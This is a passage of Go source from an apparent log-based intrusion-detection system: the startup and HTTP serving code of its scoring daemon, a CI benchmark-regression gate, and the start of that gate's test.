	baseline := fs.String("baseline", "train.jsonl", "labeled baseline log (JSONL) for supervision (ignored with -bundle)")
	method := fs.String("method", "retrieval", "detection method: classifier | retrieval | reconstruction | pca (ignored with -bundle: the manifest decides)")
	addr := fs.String("addr", ":8080", "listen address")
	epochs := fs.Int("epochs", 8, "classifier tuning epochs")
	seed := fs.Int64("seed", 1, "tuning seed")
	contextN := fs.Int("context", 1, "session lines joined per scoring input (§IV-C)")
	aggregation := fs.String("aggregation", "decay", "session aggregation: max | mean | decay")
	lineThr := fs.Float64("line-threshold", 0, "per-line alert threshold (0 disables)")
	sessThr := fs.Float64("session-threshold", 0, "session alert threshold (0 disables)")
	idle := fs.Int64("idle-timeout", 1800, "session idle timeout in seconds")
	maxLines := fs.Int("max-session-lines", 64, "sliding window length per session")
	queue := fs.Int("queue", 64, "bounded ingest queue per shard (requests); full queue blocks /score")
	batch := fs.Int("batch", 512, "events coalesced per scoring batch per shard")
	overload := fs.String("overload", "block", "full-queue policy: block (backpressure) | shed (429 + Retry-After) | degrade (downshift saturated shards down the precision ladder, recover on calm)")
	degradeAfter := fs.Duration("degrade-after", 2*time.Second, "sustained saturation before the degrade policy downshifts a shard one precision rung")
	recoverAfter := fs.Duration("recover-after", 15*time.Second, "sustained calm before a degraded shard shifts one rung back up")
	checkpoint := fs.String("checkpoint", "", "session checkpoint file: restored at startup, rewritten every -checkpoint-interval and after draining (empty disables)")
	ckptInterval := fs.Duration("checkpoint-interval", time.Minute, "how often to rewrite the session checkpoint")
	shards := fs.Int("shards", 0, "detector shards keyed by hash(user) (0 = GOMAXPROCS); each shard scores concurrently on its own scorer replica")
	modalityPin := fs.String("modality", "", "pin the served log modality ("+modality.FlagHelp()+"): the startup artifact and every reload must match, or they are rejected; empty adopts the first loaded artifact's modality")
	precision := fs.String("precision", "", "serve-path precision: float64 | float32 | int8 (with -bundle the manifest decides unless this overrides; applies at startup, reloads follow their bundle's manifest)")
	cascade := fs.Bool("cascade", false, "serve the scoring cascade: rarity pre-filter -> int8 triage -> f64 confirm (with -bundle the bundle must carry a cascade section, see clmtrain -cascade; without, thresholds are calibrated from the baseline at startup); per-rung traffic shows in /stats")
	pprofAddr := fs.String("pprof", "", "expose net/http/pprof on this extra debug listener (e.g. 127.0.0.1:6060); scoring, liveness, and readiness stay on -addr")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *shards <= 0 {
		*shards = runtime.GOMAXPROCS(0)
	}
	overloadPolicy, err := stream.ParseOverloadPolicy(*overload)
	if err != nil {
		return err
	}
	// "" means follow the bundle manifest (or float64 on the legacy path);
	// validate an explicit value before any loading happens.
	var prec model.Precision
	if *precision != "" {
		var err error
		if prec, err = model.ParsePrecision(*precision); err != nil {
			return err
		}
	}
	if *cascade && *precision != "" {
		// The cascade pins its own rungs (int8 triage, f64 confirm); a
		// flat-precision override contradicts it.
		return errors.New("-cascade and -precision are mutually exclusive: the cascade serves int8 triage with float64 confirm")
	}

	agg, err := stream.ParseAggregation(*aggregation)
	if err != nil {
		return err
	}
	// Fail a typoed method or modality in milliseconds, not after loading
	// the model; the modality error lists the registered names.
	if *bundleDir == "" {
		if err := core.ValidateMethod(*method); err != nil {
			return err
		}
	}
	if *modalityPin != "" {
		if err := modality.Validate(*modalityPin); err != nil {
			return err
		}
	}

	scfg := stream.DefaultConfig()
	scfg.ContextWindow = *contextN
	scfg.Aggregation = agg
	scfg.LineThreshold = *lineThr
	scfg.SessionThreshold = *sessThr
	scfg.IdleTimeout = *idle
	scfg.MaxSessionLines = *maxLines

	// The socket opens before the scorer exists: /healthz answers 200
	// immediately (liveness) while /readyz and /score answer 503 until the
	// build/load below finishes, so restart supervisors see a live process
	// and load balancers see a not-yet-ready replica instead of a black
	// hole during the (potentially minutes-long) warm start.
	d := newDaemon(*bundleDir, *cascade)
	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		return err
	}
	server := &http.Server{Handler: newHandler(d, *batch)}
	errc := make(chan error, 1)
	go func() { errc <- server.Serve(ln) }()
	fmt.Fprintf(os.Stderr, "clmserve: listening on %s (not ready yet)\n", ln.Addr())

	// Optional pprof debug listener, separate from the serving socket so
	// profiling the hot path never contends with liveness/readiness or
	// scoring routes. The net/http/pprof import registers its handlers on
	// the DefaultServeMux, which only this listener serves.
	if *pprofAddr != "" {
		dln, err := net.Listen("tcp", *pprofAddr)
		if err != nil {
			server.Close()
			return fmt.Errorf("pprof listener: %w", err)
		}
		go func() {
			if err := http.Serve(dln, nil); err != nil {
				fmt.Fprintf(os.Stderr, "clmserve: pprof listener: %v\n", err)
			}
		}()
		fmt.Fprintf(os.Stderr, "clmserve: pprof debug listener on http://%s/debug/pprof/\n", dln.Addr())
	}

	// Register signals before the (potentially minutes-long) scorer
	// build/load: SIGHUP's default disposition kills the process, so an
	// early reload request must be queued for the serving loop below, not
	// terminate a warming replica.
	sigc := make(chan os.Signal, 2)
	signal.Notify(sigc, syscall.SIGINT, syscall.SIGTERM, syscall.SIGHUP)

	var scorer tuning.Scorer
	version, served := "", ""
	if *bundleDir != "" {
		lb, err := core.LoadScorerBundle(*bundleDir)
		if err != nil {
			server.Close()
			return err
		}
		if *modalityPin != "" {
			// The pin wins over the artifact: a bundle trained for another
			// modality is rejected before it ever scores a line.
			if err := lb.CheckModality(*modalityPin); err != nil {
				server.Close()
				return err
			}
		}
		scorer, version, *method = lb.Scorer, lb.Manifest.Version, lb.Manifest.Method
		served = lb.Modality()
		fmt.Fprintf(os.Stderr, "clmserve: loaded %s bundle %s (modality %s, no tuning)\n", *method, version, served)
		if *cascade {
			if scorer, err = core.BuildCascade(lb.Scorer, lb.Cascade); err != nil {
				server.Close()
				return err
			}
			fmt.Fprintf(os.Stderr, "clmserve: serving the scoring cascade (clear<=%.3g, escalate>=%.4g)\n",
				lb.Cascade.Params.ClearThreshold, lb.Cascade.Params.EscalateLow)
		}
		if *precision != "" {
			// Startup override: rebind the serving engine before any
			// replica exists; the head and backbone are untouched.
			if err := tuning.SetScorerPrecision(scorer, prec); err != nil {
				server.Close()
				return err
			}
			fmt.Fprintf(os.Stderr, "clmserve: serving at %s precision\n", prec)
		}
	} else {
		scorer, served, err = buildScorerFromBaseline(*modelDir, *baseline, *method, *epochs, *seed, prec, *cascade)
		if err != nil {
			server.Close()
			return err
		}
		if pin := modality.Canonical(*modalityPin); *modalityPin != "" && served != pin {
			server.Close()
			return fmt.Errorf("%w: pipeline %s is %q, server pinned to %q",
				core.ErrModalityMismatch, *modelDir, served, pin)
		}
	}

	// One scorer replica per shard: the frozen backbone and fitted
	// artifacts are shared, only engine scratch + LRU cache replicate.
	replicas, err := core.ReplicateScorer(scorer, *shards)
	if err != nil {
		server.Close()
		return err
	}
	sharded, err := stream.NewShardedDetector(replicas, scfg)
	if err != nil {
		server.Close()
		return err
	}
	sharded.SetScorerVersion(version)
	sharded.SetModality(served)
	svc := stream.NewShardedService(sharded, stream.ServiceConfig{
		QueueRequests: *queue,
		BatchEvents:   *batch,
		Overload:      overloadPolicy,
		DegradeAfter:  *degradeAfter,
		RecoverAfter:  *recoverAfter,
	})

	// Restore the previous run's sessions before any traffic: a missing
	// checkpoint is a cold start, a corrupt or incompatible one is logged
	// and skipped (serving fresh beats not serving).
	if *checkpoint != "" {
		if f, err := os.Open(*checkpoint); err == nil {
			rerr := svc.RestoreSessions(f)
			f.Close()
			if rerr != nil {
				fmt.Fprintf(os.Stderr, "clmserve: checkpoint %s not restored (%v); starting fresh\n", *checkpoint, rerr)
			} else {
				fmt.Fprintf(os.Stderr, "clmserve: restored %d sessions from %s\n",
					svc.Stats().ActiveSessions, *checkpoint)
			}
		} else if !errors.Is(err, os.ErrNotExist) {
			fmt.Fprintf(os.Stderr, "clmserve: checkpoint %s unreadable (%v); starting fresh\n", *checkpoint, err)
		}
	}
	d.attach(svc, served)

	// Periodic idle-session sweep bounds memory across a large user
	// population. It runs on the stream's high-water event time, not wall
	// clock: on live traffic the two track each other, while replayed or
	// backfilled logs (historical timestamps) keep their sessions instead
	// of being evicted against the real clock.
	sweep := time.NewTicker(time.Minute)
	defer sweep.Stop()
	go func() {
		for range sweep.C {
			// Wall clock caps the sweep horizon: one far-future timestamp
			// (e.g. milliseconds sent as seconds) must not poison the
			// high-water mark into evicting every live session. The sweep
			// fans out across every shard.
			hw := svc.HighWater()
			if now := time.Now().Unix(); hw > now {
				hw = now
			}
			svc.EvictIdle(hw)
		}
	}()

	// Periodic session checkpoint: atomic (tmp + rename), so a crash
	// mid-write leaves the previous snapshot intact.
	if *checkpoint != "" {
		ckptTick := time.NewTicker(*ckptInterval)
		defer ckptTick.Stop()
		go func() {
			for range ckptTick.C {
				if err := writeCheckpointFile(svc, *checkpoint); err != nil {
					fmt.Fprintf(os.Stderr, "clmserve: checkpoint: %v\n", err)
				}
			}
		}()
	}

	fmt.Fprintf(os.Stderr, "clmserve: %s scorer serving %s logs on %s (%d shards, overload=%s)\n",
		*method, served, ln.Addr(), *shards, overloadPolicy)

	for {
		select {
		case err := <-errc:
			svc.Close()
			return err
		case sig := <-sigc:
			if sig == syscall.SIGHUP {
				// Hot-reload the active bundle directory (the -bundle flag,
				// or the last successful /reload source); serving continues
				// throughout, a failed reload keeps the old scorer.
				if v, err := d.reload(""); err != nil {
					fmt.Fprintf(os.Stderr, "clmserve: SIGHUP reload failed: %v\n", err)
				} else {
					fmt.Fprintf(os.Stderr, "clmserve: SIGHUP reloaded bundle %s\n", v)
				}
				continue
			}
			fmt.Fprintf(os.Stderr, "clmserve: %v: draining...\n", sig)
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			if err := server.Shutdown(ctx); err != nil {
				// A never-ending streaming /score client keeps its handler
				// active past the deadline; force-close it — the drain below
				// still answers everything the queue accepted.
				fmt.Fprintf(os.Stderr, "clmserve: forced shutdown: %v\n", err)
				server.Close()
			}
			svc.Close() // drain queued requests through the detector
			if *checkpoint != "" {
				// Checkpoint after the drain: every accepted event is in the
				// snapshot, so the next start resumes exactly here.
				if err := writeCheckpointFile(svc, *checkpoint); err != nil {
					fmt.Fprintf(os.Stderr, "clmserve: final checkpoint: %v\n", err)
				} else {
					fmt.Fprintf(os.Stderr, "clmserve: checkpointed sessions to %s\n", *checkpoint)
				}
			}
			st := svc.Stats()
			fmt.Fprintf(os.Stderr, "clmserve: drained; %d events scored, %d session alerts\n",
				st.Events, st.SessionAlerts)
			return nil
		}
	}
}

// writeCheckpointFile snapshots the service's sessions to path atomically:
// a full write to path+".tmp", then rename, so readers (and the next
// startup) only ever see complete, checksum-valid snapshots.
func writeCheckpointFile(svc *stream.Service, path string) error {
	tmp := path + ".tmp"
	f, err := os.Create(tmp)
	if err != nil {
		return err
	}
	if err := svc.SaveSessions(f); err != nil {
		f.Close()
		os.Remove(tmp)
		return err
	}
	if err := f.Close(); err != nil {
		os.Remove(tmp)
		return err
	}
	return os.Rename(tmp, path)
}

// buildScorerFromBaseline is the legacy warm start: load the pipeline and
// tune the method head over the labeled baseline log; prec selects the
// serving engine's arithmetic rung (tuning itself always runs in float64).
// The returned modality is the pipeline's, so the caller can enforce a
// -modality pin and stamp the serving stats.
func buildScorerFromBaseline(modelDir, baseline, method string, epochs int, seed int64, prec model.Precision, cascade bool) (tuning.Scorer, string, error) {
	pl, err := core.LoadPipeline(modelDir)
	if err != nil {
		return nil, "", err
	}
	served := pl.Pre.Modality()
	bf, err := os.Open(baseline)
	if err != nil {
		return nil, "", err
	}
	ds, err := corpus.ReadJSONL(bf)
	bf.Close()
	if err != nil {
		return nil, "", err
	}
	baseLines := ds.Lines()
	var labels []bool
	if served == modality.Shell {
		labels, err = commercial.Default().Label(baseLines, commercial.DefaultNoise(), seed)
		if err != nil {
			return nil, "", err
		}
	} else {
		// The commercial IDS rule set is shell-only; other modalities use the
		// in-box oracle carried by the labeled baseline log.
		labels = make([]bool, len(ds.Samples))
		for i, s := range ds.Samples {
			labels[i] = s.Label == corpus.Intrusion && s.InBox
		}
	}
	fmt.Fprintf(os.Stderr, "clmserve: building %s scorer over %d baseline lines...\n", method, len(baseLines))
	sc, err := core.BuildScorer(pl, core.ScorerConfig{
		Method: method, Epochs: epochs, Seed: seed, Precision: prec,
	}, baseLines, labels)
	if err != nil || !cascade {
		return sc, served, err
	}
	// Cascade warm start: calibrate the rung-0 table and escalation band
	// against this scorer's own scores of the baseline, then compose.
	art, err := core.CalibrateCascade(sc, served, baseLines, core.DefaultCascadeConfig())
	if err != nil {
		return nil, "", err
	}
	casc, err := core.BuildCascade(sc, art)
	if err != nil {
		return nil, "", err
	}
	fmt.Fprintf(os.Stderr, "clmserve: calibrated scoring cascade (clear<=%.3g, escalate>=%.4g)\n",
		art.Params.ClearThreshold, art.Params.EscalateLow)
	return casc, served, nil
}

// daemon is the handler-visible serving state: nil service until the
// startup scorer build/load finishes, then the live service plus the
// bundle directory reloads default to. The HTTP surface runs against it
// from before readiness through hot-reloads.
type daemon struct {
	mu        sync.RWMutex
	svc       *stream.Service
	bundleDir string
	modality  string // the served modality; reloads must match it
	cascade   bool   // -cascade: reload bundles must carry a cascade section

	reloadMu sync.Mutex // serializes /reload + SIGHUP loads
}

func newDaemon(bundleDir string, cascade bool) *daemon {
	return &daemon{bundleDir: bundleDir, cascade: cascade}
}

// attach publishes the service and locks in the served modality; the daemon
// is ready from this point, and every reload must carry the same modality.
func (d *daemon) attach(svc *stream.Service, served string) {
	d.mu.Lock()
	d.svc = svc
	d.modality = served
	d.mu.Unlock()
}

// service returns the live service, or false while warming up.
func (d *daemon) service() (*stream.Service, bool) {
	d.mu.RLock()
	defer d.mu.RUnlock()
	return d.svc, d.svc != nil
}

// errNoBundle distinguishes "nothing to reload from" from load failures.
var errNoBundle = errors.New("no bundle directory: started without -bundle; pass ?bundle=dir")

// reload loads the bundle at dir (default: the active bundle directory)
// and hot-swaps it into every shard, returning the new version. A
// successful explicit reload rebinds the active directory, so SIGHUP and
// parameterless reloads keep refreshing whatever is currently serving.
// The expensive part — deserializing and replicating — happens before the
// swap, so scoring pauses only for the pointer exchange.
func (d *daemon) reload(dir string) (string, error) {
	d.reloadMu.Lock()
	defer d.reloadMu.Unlock()

	svc, ok := d.service()
	if !ok {
		return "", errors.New("not ready yet")
	}
	d.mu.RLock()
	if dir == "" {
		dir = d.bundleDir
	}
	d.mu.RUnlock()
	if dir == "" {
		return "", errNoBundle
	}
	lb, err := core.LoadScorerBundle(dir)
	if err != nil {
		return "", err
	}
	d.mu.RLock()
	served := d.modality
	d.mu.RUnlock()
	// A bundle trained for another modality never swaps in: the reload is
	// rejected with the typed mismatch error (HTTP 409) and the old scorer
	// keeps serving untouched.
	if err := lb.CheckModality(served); err != nil {
		return "", err
	}
	next := lb.Scorer
	if d.cascade {
		// A cascade daemon stays a cascade across reloads: a bundle without
		// the cascade section is rejected and the old scorer keeps serving.
		if next, err = core.BuildCascade(lb.Scorer, lb.Cascade); err != nil {
			return "", err
		}
	}
	if err := svc.SwapScorer(next, lb.Manifest.Version); err != nil {
		return "", err
	}
	d.mu.Lock()
	d.bundleDir = dir
	d.mu.Unlock()
	return lb.Manifest.Version, nil
}

// newHandler wires the HTTP surface over the daemon state.
func newHandler(d *daemon, chunk int) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/score", func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			http.Error(w, "POST NDJSON events", http.StatusMethodNotAllowed)
			return
		}
		svc, ok := d.service()
		if !ok {
			http.Error(w, "scorer loading, not ready", http.StatusServiceUnavailable)
			return
		}
		handleScore(svc, chunk, w, r)
	})
	mux.HandleFunc("/stats", func(w http.ResponseWriter, r *http.Request) {
		svc, ok := d.service()
		if !ok {
			http.Error(w, "scorer loading, not ready", http.StatusServiceUnavailable)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		enc.Encode(svc.Stats())
	})
	mux.HandleFunc("/reload", func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			http.Error(w, "POST /reload?bundle=dir", http.StatusMethodNotAllowed)
			return
		}
		version, err := d.reload(r.URL.Query().Get("bundle"))
		if err != nil {
			status := http.StatusInternalServerError
			switch {
			case errors.Is(err, errNoBundle):
				status = http.StatusBadRequest
			case errors.Is(err, core.ErrModalityMismatch):
				// The bundle is fine, it just serves a different log type
				// than this server: a conflict, not a server fault.
				status = http.StatusConflict
			}
			http.Error(w, err.Error(), status)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]string{"version": version})
	})
	// Liveness: the process is up; 200 even while the scorer is still
	// building or loading, so supervisors don't restart a warming replica.
	mux.HandleFunc("/healthz", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintln(w, "ok")
	})
	// Readiness: route traffic here only once the scorer serves. A shard
	// held below native precision by the degrade policy is still ready —
	// degraded capacity beats no capacity — but the state is surfaced so
	// operators and probes can see it.
	mux.HandleFunc("/readyz", func(w http.ResponseWriter, r *http.Request) {
		svc, ok := d.service()
		if !ok {
			http.Error(w, "loading", http.StatusServiceUnavailable)
			return
		}
		line := "ready"
		if v := svc.ScorerVersion(); v != "" {
			line += " " + v
		}
		if m := svc.Modality(); m != "" {
			line += " modality=" + m
		}
		if n := svc.DegradedShards(); n > 0 {
			line += fmt.Sprintf(" degraded=%d", n)
		}
		fmt.Fprintln(w, line)
	})
	return mux
}

// handleScore streams NDJSON events through the service in chunks,
// writing NDJSON verdicts back as each chunk completes. Submitting chunk
// by chunk (rather than slurping the body) keeps memory bounded and
// propagates queue backpressure to the client through TCP. A malformed
// line costs that line, not the connection: the stream carries a per-line
// error record in its place and keeps scoring; one bad producer among the
// fleet's log shippers must not sever everyone sharing the pipe. Overload
// rejections (shed policy) map to 429 + Retry-After while the response is
// still unstarted, in-band error records afterwards.
func handleScore(svc *stream.Service, chunk int, w http.ResponseWriter, r *http.Request) {
	if chunk <= 0 {
		chunk = 512
	}
	// Verdicts stream back while the request body is still arriving; on
	// HTTP/1 the server otherwise closes the read side at the first
	// response write. (HTTP/2 is duplex already; the error is ignorable.)
	_ = http.NewResponseController(w).EnableFullDuplex()
	w.Header().Set("Content-Type", "application/x-ndjson")
	out := bufio.NewWriter(w)
	enc := json.NewEncoder(out)
	sc := bufio.NewScanner(r.Body)
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)

	events := make([]stream.Event, 0, chunk)
	lineNo, wrote := 0, false
	flush := func() bool {
		if len(events) == 0 {
			return true
		}
		verdicts, err := svc.SubmitContext(r.Context(), events)
		events = events[:0]
		if err != nil {
			if !wrote {
				status := http.StatusServiceUnavailable
				if errors.Is(err, stream.ErrOverloaded) {
					status = http.StatusTooManyRequests
					w.Header().Set("Retry-After", "1")
				}
				http.Error(w, err.Error(), status)
				return false
			}
			// Headers are already out; surface the error in-band.
			enc.Encode(map[string]string{"error": err.Error()})
			out.Flush()
			return false
		}
		for i := range verdicts {
			enc.Encode(&verdicts[i])
		}
		out.Flush()
		wrote = wrote || len(verdicts) > 0
		return true
	}

	for sc.Scan() {
		lineNo++
		raw := sc.Bytes()
		if len(raw) == 0 {
			continue
		}
		var ev stream.Event
		if err := json.Unmarshal(raw, &ev); err != nil {
			// Flush pending events first so the error record lands in input
			// order, then keep going: the line is lost, the stream is not.
			if !flush() {
				return
			}
			enc.Encode(map[string]any{
				"error": fmt.Sprintf("line %d: %v", lineNo, err),
				"line":  lineNo,
			})
			out.Flush()
			wrote = true
			continue
		}
		if ev.Time == 0 {
			ev.Time = time.Now().Unix()
		}
		if ev.User == "" {
			ev.User = "-"
		}
		events = append(events, ev)
		if len(events) >= chunk {
			if !flush() {
				return
			}
		}
	}
	if err := sc.Err(); err != nil {
		enc.Encode(map[string]string{"error": err.Error()})
		out.Flush()
		return
	}
	flush()
}
