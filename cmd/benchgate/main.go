// Command benchgate is the benchmark-regression gate for CI: it turns `go
// test -bench` output into a JSON throughput report and compares a PR's
// report against a checked-in baseline, failing when the gated metric
// regresses beyond the allowed fraction.
//
// Parse mode (stdin: raw bench output; stdout: report JSON):
//
//	go test -run xxx -bench 'Throughput' -benchtime 3x . | benchgate -parse > BENCH_PR.json
//
// Compare mode (exit status 1 on a gated regression):
//
//	benchgate -compare -baseline BENCH_BASELINE.json -pr BENCH_PR.json \
//	          -gate BenchmarkStreamingThroughput -max-regress 0.20
//
// Only the -gate benchmark fails the job; every other shared benchmark is
// reported for trend visibility. The gate is one-sided — faster never
// fails — because absolute lines/s moves with runner hardware; the
// baseline should be refreshed (parse mode on a representative runner,
// commit the JSON) whenever the fleet or the fixture changes.
//
// Docs mode (exit status 1 on any violation; see docs.go):
//
//	benchgate -docs -root .
package main

import (
	"bufio"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"sort"
	"strconv"
	"strings"
)

// Named comparison failures, distinguishable by errors.Is so callers (and
// tests) can tell a missing benchmark from a real regression or a
// meaningless baseline.
var (
	// ErrBenchMissing: the gated benchmark exists in only one report —
	// e.g. a renamed benchmark or a baseline not yet refreshed.
	ErrBenchMissing = errors.New("gated benchmark missing from a report")
	// ErrZeroBaseline: the baseline entry has no meaningful lines/s, so a
	// ratio would divide by zero and the gate could never fail.
	ErrZeroBaseline = errors.New("gated benchmark has a zero baseline")
	// ErrRegression: the gated metric dropped beyond the tolerance.
	ErrRegression = errors.New("gated benchmark regressed")
)

// Entry is one benchmark's throughput sample.
type Entry struct {
	// LinesPerSec is the benchmark's custom lines/s metric.
	LinesPerSec float64 `json:"lines_per_s"`
	// Iters is the b.N the sample was measured over.
	Iters int64 `json:"iters"`
}

// Report maps benchmark names (GOMAXPROCS suffix stripped, sub-benchmark
// paths kept) to their throughput entries.
type Report struct {
	Benchmarks map[string]Entry `json:"benchmarks"`
}

func main() {
	fs := flag.NewFlagSet("benchgate", flag.ContinueOnError)
	parse := fs.Bool("parse", false, "parse `go test -bench` output from stdin into report JSON on stdout")
	compare := fs.Bool("compare", false, "compare -pr against -baseline and gate on -gate")
	docs := fs.Bool("docs", false, "lint repo documentation: intra-repo markdown links and exported doc comments")
	root := fs.String("root", ".", "repo root for -docs")
	baselinePath := fs.String("baseline", "BENCH_BASELINE.json", "checked-in baseline report")
	prPath := fs.String("pr", "BENCH_PR.json", "report for the change under test")
	gate := fs.String("gate", "BenchmarkStreamingThroughput", "benchmark whose regression fails the gate")
	maxRegress := fs.Float64("max-regress", 0.20, "largest tolerated fractional drop of the gated metric")
	if err := fs.Parse(os.Args[1:]); err != nil {
		os.Exit(2)
	}
	modes := 0
	for _, on := range []bool{*parse, *compare, *docs} {
		if on {
			modes++
		}
	}
	switch {
	case modes != 1:
		fmt.Fprintln(os.Stderr, "benchgate: exactly one of -parse, -compare, or -docs required")
		os.Exit(2)
	case *docs:
		problems, err := lintDocs(*root)
		if err != nil {
			fmt.Fprintln(os.Stderr, "benchgate:", err)
			os.Exit(1)
		}
		for _, p := range problems {
			fmt.Println(p)
		}
		if len(problems) > 0 {
			fmt.Fprintf(os.Stderr, "benchgate: %d documentation problem(s)\n", len(problems))
			os.Exit(1)
		}
		fmt.Println("OK: markdown links resolve and exported identifiers are documented")
	case *parse:
		rep, err := parseBench(os.Stdin)
		if err == nil {
			err = json.NewEncoder(os.Stdout).Encode(rep)
		}
		if err != nil {
			fmt.Fprintln(os.Stderr, "benchgate:", err)
			os.Exit(1)
		}
	default:
		base, err := readReport(*baselinePath)
		if err != nil {
			fmt.Fprintln(os.Stderr, "benchgate:", err)
			os.Exit(1)
		}
		pr, err := readReport(*prPath)
		if err != nil {
			fmt.Fprintln(os.Stderr, "benchgate:", err)
			os.Exit(1)
		}
		summary, err := compareReports(base, pr, *gate, *maxRegress)
		fmt.Print(summary)
		if err != nil {
			fmt.Fprintln(os.Stderr, "benchgate:", err)
			os.Exit(1)
		}
	}
}

// parseBench extracts the lines/s custom metric from `go test -bench`
// output. A bench line looks like
//
//	BenchmarkStreamingThroughput-4   3   2348540 ns/op   425797 lines/s   ...
//
// where the trailing -4 is GOMAXPROCS (stripped; sub-benchmark names like
// BenchmarkShardedThroughput/shards=4 keep their path). Benchmarks without
// a lines/s metric are skipped.
func parseBench(r io.Reader) (Report, error) {
	rep := Report{Benchmarks: map[string]Entry{}}
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)
	for sc.Scan() {
		fields := strings.Fields(sc.Text())
		if len(fields) < 4 || !strings.HasPrefix(fields[0], "Benchmark") {
			continue
		}
		iters, err := strconv.ParseInt(fields[1], 10, 64)
		if err != nil {
			continue
		}
		lps := -1.0
		for i := 3; i < len(fields); i += 2 {
			if fields[i] != "lines/s" {
				continue
			}
			if v, err := strconv.ParseFloat(fields[i-1], 64); err == nil {
				lps = v
			}
			break
		}
		if lps < 0 {
			continue
		}
		rep.Benchmarks[stripProcs(fields[0])] = Entry{LinesPerSec: lps, Iters: iters}
	}
	if err := sc.Err(); err != nil {
		return rep, err
	}
	if len(rep.Benchmarks) == 0 {
		return rep, fmt.Errorf("no benchmarks with a lines/s metric on stdin")
	}
	return rep, nil
}

// stripProcs removes the trailing -GOMAXPROCS suffix from a bench name
// (the suffix follows the last dash of the final path element and is all
// digits).
func stripProcs(name string) string {
	at := strings.LastIndexByte(name, '-')
	if at < 0 {
		return name
	}
	suffix := name[at+1:]
	if suffix == "" {
		return name
	}
	for _, c := range suffix {
		if c < '0' || c > '9' {
			return name
		}
	}
	return name[:at]
}

func readReport(path string) (Report, error) {
	var rep Report
	raw, err := os.ReadFile(path)
	if err != nil {
		return rep, err
	}
	if err := json.Unmarshal(raw, &rep); err != nil {
		return rep, fmt.Errorf("%s: %w", path, err)
	}
	if len(rep.Benchmarks) == 0 {
		return rep, fmt.Errorf("%s: empty report", path)
	}
	return rep, nil
}

// compareReports renders the delta table for every benchmark present in
// both reports, lists benchmarks present in only one (named loudly so a
// rename or stale baseline is visible instead of silently dropped), and
// gates on one benchmark. The returned error is nil when the gate passes;
// otherwise it wraps ErrBenchMissing, ErrZeroBaseline, or ErrRegression.
func compareReports(base, pr Report, gate string, maxRegress float64) (string, error) {
	var b strings.Builder
	var matched, baseOnly, prOnly []string
	for name := range base.Benchmarks {
		if _, ok := pr.Benchmarks[name]; ok {
			matched = append(matched, name)
		} else {
			baseOnly = append(baseOnly, name)
		}
	}
	for name := range pr.Benchmarks {
		if _, ok := base.Benchmarks[name]; !ok {
			prOnly = append(prOnly, name)
		}
	}
	sort.Strings(matched)
	sort.Strings(baseOnly)
	sort.Strings(prOnly)

	fmt.Fprintf(&b, "%-44s %14s %14s %8s\n", "benchmark", "baseline", "pr", "ratio")
	for _, name := range matched {
		bl, p := base.Benchmarks[name], pr.Benchmarks[name]
		mark := ""
		if name == gate {
			mark = "  <- gate"
		}
		ratio := "    n/a"
		if bl.LinesPerSec > 0 {
			ratio = fmt.Sprintf("%7.2f", p.LinesPerSec/bl.LinesPerSec)
		}
		fmt.Fprintf(&b, "%-44s %14.0f %14.0f %s%s\n",
			name, bl.LinesPerSec, p.LinesPerSec, ratio, mark)
	}
	for _, name := range baseOnly {
		fmt.Fprintf(&b, "%-44s only in baseline (removed or not run in PR)\n", name)
	}
	for _, name := range prOnly {
		fmt.Fprintf(&b, "%-44s only in PR (new; absent from baseline)\n", name)
	}

	bl, okBase := base.Benchmarks[gate]
	p, okPR := pr.Benchmarks[gate]
	switch {
	case !okBase || !okPR:
		return b.String(), fmt.Errorf("%w: %s (in baseline: %v, in pr: %v)",
			ErrBenchMissing, gate, okBase, okPR)
	case !(bl.LinesPerSec > 0):
		return b.String(), fmt.Errorf("%w: %s baseline %v lines/s — refresh BENCH_BASELINE.json",
			ErrZeroBaseline, gate, bl.LinesPerSec)
	case p.LinesPerSec < bl.LinesPerSec*(1-maxRegress):
		return b.String(), fmt.Errorf("%w: %s dropped %.1f%% (%.0f -> %.0f lines/s, tolerance %.0f%%)",
			ErrRegression, gate, 100*(1-p.LinesPerSec/bl.LinesPerSec),
			bl.LinesPerSec, p.LinesPerSec, 100*maxRegress)
	}
	fmt.Fprintf(&b, "OK: %s within %.0f%% of baseline (%.0f -> %.0f lines/s)\n",
		gate, 100*maxRegress, bl.LinesPerSec, p.LinesPerSec)
	return b.String(), nil
}
