package main

import (
	"errors"
	"strings"
	"testing"
)

const sampleBenchOutput = `goos: linux
goarch: amd64
pkg: clmids
cpu: Intel(R) Xeon(R) Processor @ 2.10GHz
BenchmarkInferenceThroughput-4         	       3	   1136000 ns/op	    880000 lines/s	     120 B/op	       2 allocs/op
BenchmarkInferenceThroughputCold-4     	       3	  46900000 ns/op	     21300 lines/s	 8000000 B/op	   90000 allocs/op
BenchmarkStreamingThroughput-4         	       3	   4273000 ns/op	    234000 lines/s	 1000000 B/op	    3000 allocs/op
BenchmarkShardedThroughput/shards=1-4  	       3	   2348540 ns/op	    425797 lines/s	 1026482 B/op	    3182 allocs/op
BenchmarkShardedThroughput/shards=4-4  	       3	   1148329 ns/op	    870629 lines/s	 1335912 B/op	    3707 allocs/op
BenchmarkNoMetric-4                    	     100	     10000 ns/op
PASS
ok  	clmids	9.063s
`

func TestParseBench(t *testing.T) {
	rep, err := parseBench(strings.NewReader(sampleBenchOutput))
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]float64{
		"BenchmarkInferenceThroughput":        880000,
		"BenchmarkInferenceThroughputCold":    21300,
		"BenchmarkStreamingThroughput":        234000,
		"BenchmarkShardedThroughput/shards=1": 425797,
		"BenchmarkShardedThroughput/shards=4": 870629,
	}
	if len(rep.Benchmarks) != len(want) {
		t.Fatalf("parsed %d benchmarks, want %d: %+v", len(rep.Benchmarks), len(want), rep.Benchmarks)
	}
	for name, lps := range want {
